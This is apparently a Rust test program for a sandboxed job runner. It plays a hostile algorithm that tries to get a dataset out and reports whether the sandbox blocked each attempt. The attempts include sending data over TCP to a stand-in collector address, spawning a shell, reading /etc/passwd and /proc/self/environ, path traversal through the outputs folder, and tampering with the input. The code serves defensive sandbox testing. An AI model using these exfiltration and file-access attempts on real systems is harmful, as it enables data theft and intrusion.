//! A hostile algorithm: tries to get a dataset out of the sandbox, and prints the result of each attempt.
//!
//! Reads   the first file of the first dataset, and everything else that it can reach
//! Writes  `loot`, to try to read it back
//! Params  none
//!
//! Exits with 0 if every attempt failed, with 1 if one succeeded. Built for both WASI versions. The 0.2 component imports
//! `wasi:sockets`, because it mentions `std::net`: it may run, and each of these calls is answered with an error.

use job::{Job, Result};
use std::fmt::Debug;
use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::net::{TcpStream, ToSocketAddrs as _};
use std::process::{Command, ExitCode};

/// An address of the block that is reserved for documentation; no host has it.
const COLLECTOR: &str = "192.0.2.1:443";

/// One attempt that must fail.
type Attempt<'a> = (&'a str, Box<dyn Fn() -> std::io::Result<Box<dyn Debug>> + 'a>);

fn attempt<'a, T: Debug + 'static>(name: &'a str, try_it: impl Fn() -> std::io::Result<T> + 'a) -> Attempt<'a> {
    (name, Box::new(move || try_it().map(|got| Box::new(got) as Box<dyn Debug>)))
}

fn run() -> Result<()> {
    let job = Job::from_environment();
    let input = job.files()?.swap_remove(0).path;
    let stolen = fs::read(&input).map_err(|e| format!("cannot read the dataset, so there is nothing to steal: {e}"))?;
    println!("read {} bytes of the dataset, as any algorithm may; now out with them", stolen.len());

    let loot = job.outputs().join("loot");
    fs::write(&loot, b"a result that the algorithm cannot read back").map_err(|e| format!("no output: {e}"))?;
    let attempts = [
        attempt("send it over TCP", || TcpStream::connect(COLLECTOR)?.write_all(&stolen)),
        attempt("find a server by name", || Ok(("collector.example", 443).to_socket_addrs()?.count())),
        attempt("start a shell", || Command::new("sh").arg("-c").arg("cat").spawn()),
        attempt("read /etc/passwd", || fs::read("/etc/passwd")),
        attempt("read it by way of the outputs", || fs::read(job.outputs().join("../../../etc/passwd"))),
        attempt("read the host's environment", || fs::read("/proc/self/environ")),
        attempt("change the dataset", || OpenOptions::new().write(true).open(&input)?.write_all(b"0")),
        attempt("leave a file beside it", || fs::write(input.with_file_name("copy"), &stolen)),
        attempt("remove it", || fs::remove_file(&input)),
        attempt("move it into the outputs", || fs::rename(&input, job.outputs().join("moved"))),
        attempt("link it into the outputs", || fs::hard_link(&input, job.outputs().join("linked"))),
        attempt("read an output back", || File::open(&loot)?.read(&mut [0; 16])),
        // What the program itself wrote may be listed. Some versions of Rust open a directory without an error, so only the name
        // of another file counts as success.
        attempt("find other files in the outputs", || {
            let entries = fs::read_dir(job.outputs())?.collect::<std::io::Result<Vec<_>>>()?;
            let others: Vec<_> = entries.iter().map(fs::DirEntry::file_name).filter(|name| name != "loot").collect();
            if others.is_empty() {
                Err(std::io::ErrorKind::NotFound.into())
            } else {
                Ok(others)
            }
        }),
    ];
    let mut successes = 0;
    for (name, try_it) in &attempts {
        match try_it() {
            Ok(got) => {
                successes += 1;
                println!("  {name:<30} SUCCEEDED: {got:?}");
            }
            Err(error) => println!("  {name:<30} {error}"),
        }
    }
    if successes > 0 {
        return Err(format!("{successes} of {} attempts succeeded: this is not a sandbox", attempts.len()));
    }
    println!("{} attempts, and none succeeded", attempts.len());
    Ok(())
}

fn main() -> ExitCode {
    job::exit(run())
}
